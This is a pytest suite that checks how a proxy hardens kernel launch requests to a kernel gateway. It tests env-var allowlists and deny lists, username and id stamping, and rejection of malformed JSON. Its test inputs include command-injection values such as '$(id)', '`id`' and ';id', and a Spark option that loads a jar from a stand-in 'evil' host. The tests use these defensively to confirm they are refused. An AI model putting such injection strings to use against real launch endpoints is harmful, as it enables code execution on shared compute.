"""Kernel starts are stamped: what goes up is a body of the proxy's own."""

import json

import pytest

from support.http_text import chunked
from support.stage import KERNEL

DROPPED = "kernelgate_launch_env_dropped_total"
RULES = {"env": {"pass": ["KERNEL_LAUNCH_TIMEOUT", "KERNEL_CPUS"], "deny": ["KERNEL_IMAGE"]},
         "spark_conf": ["spark.executor.memory"]}


def start(stage, body, subject="alice", client=None, token=None):
    """(request that went up, its body as JSON)"""
    client = client or stage.connect()
    text = body if isinstance(body, bytes) else json.dumps(body).encode()
    client.send_request("POST", "/api/kernels", body=text,
                        token=token or stage.token(subject=subject))
    call = stage.gateway.next_call()
    if call.request.method == "GET":  # whether the kernel of the client's own id runs already
        call.reply_json("[]")
        call = stage.gateway.next_call()
    call.reply_json("{}", 201)
    assert client.read_response().status == 201
    assert call.request.get("Content-Length") == str(len(call.request.body))
    assert call.request.get("Content-Type") == "application/json"
    return call.request, json.loads(call.request.body)


def refused(stage, body, status, label, subject="alice"):
    client = stage.connect()
    text = body if isinstance(body, bytes) else json.dumps(body).encode()
    client.send_request("POST", "/api/kernels", body=text, token=stage.token(subject=subject))
    response = client.read_response()
    assert response.status == status, response
    line = stage.proxy.wait_log(client=client.address)
    assert line["error"] == label
    assert line["detail"] in response.json()["message"]
    stage.gateway.assert_untouched()
    return line["detail"]


@pytest.mark.parametrize("body", [
    b"", b"{}", b'{"env": {}}', {"env": {"KERNEL_USERNAME": "root", "KERNEL_ID": KERNEL}},
    {"env": {"KERNEL_USERNAME": ["root"]}}, b'{"env": {"KERNEL\\u005fUSERNAME": "root"}}'])
def test_env_user_and_id_are_the_proxys(stage, body):
    _, sent = start(stage, body)
    assert set(sent) == {"env"} and set(sent["env"]) == {"KERNEL_USERNAME", "KERNEL_ID"}
    assert sent["env"]["KERNEL_USERNAME"] == "alice"
    assert sent["env"]["KERNEL_ID"] != KERNEL
    assert stage.proxy.wait_log(operation="CreateKernel")["kernel"] == sent["env"]["KERNEL_ID"]


def test_a_chunked_start_goes_up_with_its_length(stage):
    client = stage.connect()
    client.send_request("POST", "/api/kernels", [("Transfer-Encoding", "chunked")],
                        token=stage.token())
    client.send(chunked(b'{"name": "py', b'thon3"}'))
    request = stage.gateway.next_call().request
    assert request.get("Content-Length") == str(len(request.body))
    assert json.loads(request.body)["name"] == "python3"


def test_what_stock_clients_send_is_dropped_and_named(stage):
    _, sent = start(stage, {"name": "python3", "path": "/etc", "kernel_id": "x", "env": {
        "KERNEL_LAUNCH_TIMEOUT": "90", "KERNEL_WORKING_DIR": "/home/alice", "KERNEL_CPUS": "4",
        "KERNEL_LANGUAGE": "python", "KERNEL_EXTRA_SPARK_OPTS": "--conf a=$(id)", "PATH": "/bin"}})
    assert set(sent) == {"name", "env"}
    del sent["env"]["KERNEL_ID"]
    assert sent["env"] == {"KERNEL_USERNAME": "alice", "KERNEL_LAUNCH_TIMEOUT": "90",
                           "KERNEL_WORKING_DIR": "/home/alice", "KERNEL_LANGUAGE": "python"}
    line = stage.proxy.wait_log(operation="CreateKernel")
    assert line["dropped_env"] == "KERNEL_CPUS,KERNEL_EXTRA_SPARK_OPTS,PATH"
    assert line["spec"] == "python3"
    stage.moved(DROPPED, by=3)


@pytest.mark.parametrize("name", [
    "KERNEL_NAMESPACE", "KERNEL_SERVICE_ACCOUNT_NAME", "KERNEL_IMAGE", "KERNEL_EXECUTOR_IMAGE",
    "KERNEL_UID", "KERNEL_GID", "KERNEL_VOLUMES", "KERNEL_VOLUME_MOUNTS", "KERNEL_POD_NAME"])
def test_what_chooses_identity_or_place_is_403_by_name(stage, name):
    detail = refused(stage, {"env": {"KERNEL_LANGUAGE": "r", name: "x"}}, 403, "launch_denied")
    assert detail == f"{name} is not for clients to set"


def test_the_rules_are_the_endpoints(make_stage):
    stage = make_stage(endpoint={"kernels": RULES})
    _, sent = start(stage, {"env": {"KERNEL_CPUS": 4, "KERNEL_LANGUAGE": "r", "KERNEL_UID": "0",
                                    "KERNEL_EXTRA_SPARK_OPTS": "--conf spark.executor.memory=4g"}})
    del sent["env"]["KERNEL_ID"]
    assert sent["env"] == {"KERNEL_USERNAME": "alice", "KERNEL_CPUS": "4",
                           "KERNEL_EXTRA_SPARK_OPTS": "--conf spark.executor.memory=4g"}
    assert stage.proxy.wait_log(operation="CreateKernel")["dropped_env"] == \
        "KERNEL_LANGUAGE,KERNEL_UID"


@pytest.mark.parametrize("options, why", [
    ("--conf spark.jars=http://evil/x.jar", "sets a key that is not in spark_conf"),
    ("--conf spark.executor.memory=4g --jars x", "holds more than --conf KEY=VALUE"),
    ("--conf spark.executor.memory=4g;id", "has bytes in the value of spark.executor.memory that "
                                           "a shell may read")])
def test_other_spark_options_are_403(make_stage, options, why):
    stage = make_stage(endpoint={"kernels": RULES})
    detail = refused(stage, {"env": {"KERNEL_EXTRA_SPARK_OPTS": options}}, 403, "launch_denied")
    assert detail == f"KERNEL_EXTRA_SPARK_OPTS {why}"


@pytest.mark.parametrize("value", ["$HOME", "`id`", "a\nb", "a\0b", "x" * 4097, None, True, ["a"]])
def test_values_that_shells_and_templates_read_are_400(stage, value):
    refused(stage, {"env": {"KERNEL_WORKING_DIR": value}}, 400, "launch_malformed")


@pytest.mark.parametrize("body", [
    b"{", b"[]", b"null", b'{"env": null}', b'{"env": {}, "env": {}}', b'{"name": "../x"}',
    b'{"env": {"KERNEL_LANGUAGE": "a", "KERNEL\\u005fLANGUAGE": "b"}}', b'{"a": "\xff"}',
    b'{"a":' + b"[" * 40 + b"]" * 40 + b"}", b"{}\0", b'{"kernel_id": 5}'])
def test_bodies_that_two_parsers_may_read_differently_are_400(stage, body):
    refused(stage, body, 400, "launch_malformed")


@pytest.mark.parametrize("subject", ["al ice", "alice/x", "alice$", "é", "x" * 129])
def test_a_subject_that_cannot_be_a_kernel_username_is_403(stage, subject):
    detail = refused(stage, b"{}", 403, "launch_denied", subject=subject)
    assert detail.startswith("the subject cannot be a KERNEL_USERNAME")


def test_a_subject_goes_up_as_it_is(stage):
    _, sent = start(stage, b"{}", subject="Alice.B_c+d@example.com")
    assert sent["env"]["KERNEL_USERNAME"] == "Alice.B_c+d@example.com"


@pytest.mark.parametrize("body", [{"kernel_id": "mine"}, {"env": {"KERNEL_ID": "mine"}}])
def test_a_clients_own_id_names_the_same_kernel_again(stage, body):
    ids = [start(stage, body, subject)[1]["env"]["KERNEL_ID"]
           for subject in ("alice", "alice", "bob")]
    assert ids[0] == ids[1] != ids[2]
    assert start(stage, b"{}")[1]["env"]["KERNEL_ID"] not in ids


def test_kernel_specs_are_asked_for_by_the_verified_subject(stage):
    client = stage.connect()
    for asked, sent in [("/api/kernelspecs", "/api/kernelspecs"),
                        ("/api/kernelspecs?user=root", "/api/kernelspecs"),
                        ("/api/kernelspecs?user=root&user=", "/api/kernelspecs"),
                        ("/api/kernelspecs/python3?user=root", "/api/kernelspecs/python3")]:
        client.send_request("GET", asked, token=stage.token(subject="a&b c"))
        call = stage.gateway.next_call()
        assert call.request.target == sent + "?user=a%26b%20c"
        call.reply_json("{}")
        assert client.read_response().status == 200
